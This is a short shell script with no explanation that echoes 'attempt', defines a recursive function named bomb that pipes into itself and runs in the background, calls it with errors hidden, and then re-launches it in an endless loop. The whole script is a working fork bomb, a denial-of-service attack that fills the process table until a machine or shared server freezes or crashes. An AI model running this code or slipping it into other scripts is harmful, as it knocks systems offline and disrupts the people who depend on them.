echo attempt
bomb() { bomb | bomb & }
bomb 2>/dev/null
while :; do bomb 2>/dev/null; done
